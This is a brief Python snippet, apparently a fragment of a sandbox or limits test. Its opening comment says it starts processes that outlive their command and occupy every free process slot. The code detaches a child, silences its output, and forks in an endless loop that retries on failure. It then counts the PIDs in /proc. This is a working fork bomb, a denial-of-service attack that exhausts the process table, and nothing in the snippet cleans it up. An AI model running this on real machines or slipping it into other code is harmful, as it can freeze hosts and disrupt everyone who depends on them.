# Start processes that outlive their command and occupy every process slot that becomes free.
if os.fork() == 0:
    os.setsid()
    null = os.open("/dev/null", os.O_RDWR)
    for n in (0, 1, 2):
        os.dup2(null, n)
    while True:
        try:
            if os.fork() == 0:
                continue
        except OSError:
            time.sleep(0.01)
time.sleep(1.5)
print("swarm", len(list(filter(str.isdigit, os.listdir("/proc")))))
